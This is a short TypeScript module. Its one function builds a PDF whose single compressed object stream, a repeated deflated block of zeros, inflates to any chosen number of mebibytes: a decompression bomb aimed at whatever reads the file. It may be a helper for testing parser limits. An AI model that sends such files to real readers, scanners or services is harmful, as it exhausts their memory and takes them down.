import { constants, deflateRawSync } from 'node:zlib';

/** A few kilobytes for each MiB that whoever reads it must hold: a stream of objects, one block again and again. */
export function unfoldingPdf(mebibytes: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(1_048_576), { finishFlush: constants.Z_FULL_FLUSH });
  const [header, end] = [Buffer.of(0x78, 0x9c), Buffer.of(3, 0)];
  const stream = Buffer.concat([header, ...Array.from({ length: mebibytes }, () => block), end]);
  const dictionary = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${stream.length} >>`;
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj\n${dictionary}\nstream\n`),
    stream,
    Buffer.from('\nendstream\nendobj\ntrailer\n<< /Size 2 /Root 2 0 R >>\nstartxref\n9\n%%EOF\n'),
  ]);
}
